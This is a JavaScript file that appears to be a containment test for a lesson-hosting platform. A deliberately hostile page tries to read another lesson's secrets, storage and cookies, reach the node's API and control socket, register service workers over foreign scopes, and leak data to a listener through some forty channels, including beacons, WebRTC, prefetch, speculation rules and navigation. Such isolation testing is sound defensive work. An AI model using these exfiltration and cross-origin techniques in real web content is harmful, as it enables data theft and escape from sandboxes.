// What a hostile lesson tries. `aims` are the addresses it is after; what became of each attempt stands in `outcome`:
// "refused: …" when the browser said no, "nothing" when there was nothing to be had, and "got …" when it succeeded.
"use strict";

const aims = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const outcome = {};

const later = (milliseconds, value) => new Promise((resolve) => setTimeout(resolve, milliseconds, value));
const got = (value) => (value ? `got ${String(value).slice(0, 200)}` : "nothing");

function add(tag, fields, parent = document.body) {
  const element = document.createElement(tag);
  const loaded = new Promise((resolve, reject) => {
    element.onload = () => resolve("got it");
    element.onerror = () => reject(new Error(tag));
  });
  Object.assign(element, fields);
  parent.append(element);
  return Promise.race([loaded, later(1500, "nothing")]);
}

async function frame(fields) {
  const element = document.createElement("iframe");
  Object.assign(element, fields);
  document.body.append(element);
  await later(1200);
  return got(element.contentDocument && element.contentDocument.body.textContent); // null is another origin's
}

async function opened(url) {
  const other = window.open(url);
  await later(1200);
  try {
    return got(other && other.document && other.document.body.textContent);
  } finally {
    if (other) other.close();
  }
}

function inWorker(code) {
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  return new Promise((resolve, reject) => {
    worker.onmessage = (said) => resolve(got(said.data));
    worker.onerror = () => reject(new Error("worker"));
    setTimeout(resolve, 1500, "nothing");
  });
}

async function speakWebRTC() {
  const servers = [`stun:127.0.0.1:${aims.udp}`, `turn:127.0.0.1:${aims.tcp}?transport=tcp`];
  const peer = new RTCPeerConnection({ iceServers: [{ urls: servers, username: "x", credential: "x" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await later(1200);
  return got([...new Set(peer.localDescription.sdp.match(/typ (srflx|relay)/g))].join());
}

async function throughWindow(page, url) {
  const other = window.open(page);
  await later(1000);
  try {
    other.fetch(url, { mode: "no-cors" }).catch(() => {});
    new other.Image().src = url;
    other.location = url;
    await later(700);
  } finally {
    other.close();
  }
}

const out = (name) => `${aims.listener}callout/${name}`;
async function readText(url, more) {
  const answer = await fetch(url, more);
  return got((answer.ok || answer.type === "opaque") && (await answer.text()));
}

// Another lesson

const reads = {
  "fetch another's file": () => readText(`${aims.victim}secret.json`),
  "fetch it without CORS": async () => got((await fetch(`${aims.victim}secret.json`, { mode: "no-cors" })).type),
  "ask by XMLHttpRequest": async () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${aims.victim}secret.json`, false);
    request.send();
    return got(request.responseText);
  },
  "run its script": async () => {
    await add("script", { src: `${aims.victim}data.js` });
    return got(window.SECRET);
  },
  "import its module": async () => got((await import(`${aims.victim}module.js`)).secret),
  "run its script in a worker": () => inWorker(`importScripts("${aims.victim}data.js"); postMessage(SECRET)`),
  "show its picture": () => add("img", { src: `${aims.victim}picture.svg` }),
  "use its style sheet": async () => {
    await add("link", { rel: "stylesheet", href: `${aims.victim}style.css` });
    return got([...document.styleSheets].some((sheet) => sheet.href && sheet.href.includes("victim")));
  },
  "look into a frame of it": () => frame({ src: aims.victim }),
  "look into a window of it": () => opened(aims.victim),
  "read its localStorage": async () => got(localStorage.getItem("secret")),
  "read its sessionStorage": async () => got(sessionStorage.getItem("secret")),
  "read its databases": async () => got((await indexedDB.databases()).map((each) => each.name).join()),
  "read its caches": async () => got((await caches.keys()).join()),
  "read its cookies": async () => got(document.cookie.includes("secret") && document.cookie),
  "speak to it on a channel": async () => {
    const channel = new BroadcastChannel("lessons");
    const heard = new Promise((resolve) => (channel.onmessage = (said) => resolve(got(said.data))));
    channel.postMessage("what is the secret?");
    return Promise.race([heard, later(1200, "nothing")]);
  },
};

// The node, and the machine

const node = {
  "fetch the API": () => readText(`${aims.home}api/v1/lessons`),
  "fetch the API from where the page came": () => readText("/api/v1/lessons"),
  "listen to events": () =>
    new Promise((resolve, reject) => {
      const events = new EventSource(`${aims.home}api/v1/events`);
      events.onmessage = (said) => resolve(got(said.data));
      events.onerror = () => reject(new Error("events"));
      setTimeout(resolve, 1500, "nothing");
    }),
  "post to the API": () => readText(`${aims.home}api/v1/lessons`, { method: "POST", body: "{}" }),
  "post to the API unread": async () =>
    got((await fetch(`${aims.home}api/v1/lessons`, { method: "POST", body: "{}", mode: "no-cors" })).type),
  "post where the page came from": () => readText(location.pathname, { method: "POST", body: "{}" }),
  "fetch the metrics": () => readText(`${aims.home}metrics`),
  "fetch the catalogue": () => readText(aims.home),
  "frame the catalogue": () => frame({ src: aims.home }),
  "open the catalogue and look into it": () => opened(aims.home),
  "run the catalogue's script": () => add("script", { src: `${aims.home}static/edgeshare.js` }),
  "fetch the control socket": () => readText(`file://${aims.socket}`),
  "frame the control socket": () => frame({ src: `file://${aims.socket}` }),
  "a WebSocket to the control socket": async () => got(new WebSocket(`ws+unix://${aims.socket}`).url),
  "a WebSocket to the node": () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(aims.home.replace("http", "ws"));
      socket.onopen = () => resolve("got it");
      socket.onerror = () => reject(new Error("websocket"));
    }),
};

// Workers that would answer in the node's place

const register = async (script, scope) => {
  if (!navigator.serviceWorker) return "nothing";
  return got((await navigator.serviceWorker.register(script, { scope })).scope);
};
const workers = {
  "a service worker for itself": () => register("worker.js", undefined),
  "a service worker for its whole origin": () => register("/worker.js", "/"),
  "a service worker for another lesson": () => register("worker.js", aims.victim),
  "a service worker from another lesson": () => register(`${aims.victim}data.js`, undefined),
  "a service worker without a file": () =>
    register(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })), undefined),
};

// Calling out: what counts is what the listener hears

const calls = {
  fetch: (url) => readText(url, { mode: "no-cors" }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send("x");
  },
  beacon: (url) => navigator.sendBeacon(url, "x"),
  events: (url) => new EventSource(url),
  websocket: (url) => new WebSocket(url.replace("http", "ws")),
  picture: (url) => add("img", { src: url }),
  script: (url) => add("script", { src: url }),
  module: (url) => import(url),
  style: (url) => add("link", { rel: "stylesheet", href: url }),
  import: (url) => add("style", { textContent: `@import "${url}";` }),
  font: async (url) => new FontFace("x", `url(${url})`).load(),
  film: (url) => add("video", { src: url, autoplay: true }),
  sound: (url) => add("audio", { src: url, autoplay: true }),
  subtitles: (url) => {
    const film = Object.assign(document.createElement("video"), { crossOrigin: "anonymous" });
    const track = Object.assign(document.createElement("track"), { src: url, default: true });
    film.append(track);
    document.body.append(film);
    track.track.mode = "showing";
  },
  frame: (url) => frame({ src: url }),
  object: (url) => add("object", { data: url }),
  embed: (url) => add("embed", { src: url }),
  worker: (url) => inWorker(`importScripts("${url}")`),
  "fetch-in-worker": (url) => inWorker(`fetch("${url}", {mode: "no-cors"})`),
  "fetch-in-srcdoc": (url) => frame({ srcdoc: `<script>fetch("${url}", {mode: "no-cors"})</script>` }),
  "picture-in-srcdoc": (url) => frame({ srcdoc: `<img src="${url}">` }),
  "fetch-in-data": (url) => frame({ src: `data:text/html,<script>fetch("${url}", {mode: "no-cors"})</script>` }),
  "leave-in-srcdoc": (url) => frame({ srcdoc: `<meta http-equiv="refresh" content="0;url=${url}">` }),
  prefetch: (url) => add("link", { rel: "prefetch", href: url }, document.head),
  preload: (url) => add("link", { rel: "preload", as: "image", href: url }, document.head),
  modulepreload: (url) => add("link", { rel: "modulepreload", href: url }, document.head),
  "speculation-prefetch": (url) => {
    const rules = { prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] };
    return add("script", { type: "speculationrules", textContent: JSON.stringify(rules) }, document.head);
  },
  "speculation-prerender": (url) => {
    const rules = { prerender: [{ source: "list", urls: [url], eagerness: "immediate" }] };
    return add("script", { type: "speculationrules", textContent: JSON.stringify(rules) }, document.head);
  },
  ping: (url) => {
    const link = Object.assign(document.createElement("a"), { href: location.href, ping: url });
    document.body.append(link);
    link.click();
  },
  form: async (url) => {
    const target = Object.assign(document.createElement("iframe"), { name: "posted" });
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: "posted" });
    document.body.append(target, form);
    form.submit();
  },
  window: (url) => opened(url),
  webrtc: () => speakWebRTC(),
  // Through a page of ours about an error, which is of the lesson's origin. (Chromium 156 ends the whole tab when it is
  // to speak WebRTC by another window's leave, so that is not tried.)
  "window-on-an-error": (url) => throughWindow(`${aims.own}there-is-no-such-file.html`, url),
  "window-on-an-icon": (url) => throughWindow(`${aims.own}favicon.ico`, url),
};

async function attempt(name, what) {
  try {
    outcome[name] = String(await Promise.race([what(), later(4000, "nothing")]));
  } catch (error) {
    outcome[name] = `refused: ${error.name}`;
  }
}

async function all() {
  const call = ([name, what]) => attempt(`call: ${name}`, () => what(out(name)));
  // What a browser does ahead it does for a page that is seen: windows, which hide this one, come later.
  const isAhead = ([name]) => name.startsWith("speculation");
  await Promise.all(Object.entries(calls).filter(isAhead).map(call));
  for (const group of [reads, node, workers]) {
    await Promise.all(Object.entries(group).map(([name, what]) => attempt(name, what)));
  }
  await Promise.all(Object.entries(calls).filter((each) => !isAhead(each)).map(call));
  window.outcome = outcome;
}

// Leaving, with all it knows: the page is gone afterwards

const leaves = {
  location: (url) => (location = url),
  replace: (url) => location.replace(url),
  link: (url) => {
    const link = Object.assign(document.createElement("a"), { href: url });
    document.body.append(link);
    link.click();
  },
  refresh: (url) => {
    const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${url}` });
    document.head.append(meta);
  },
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { action: url });
    document.body.append(form);
    form.submit();
  },
  "new window": (url) => window.open(url, "_blank", "noopener"),
};

if (aims.leave) leaves[aims.leave](out(`leave-${aims.leave.replace(" ", "-")}`));
else all();
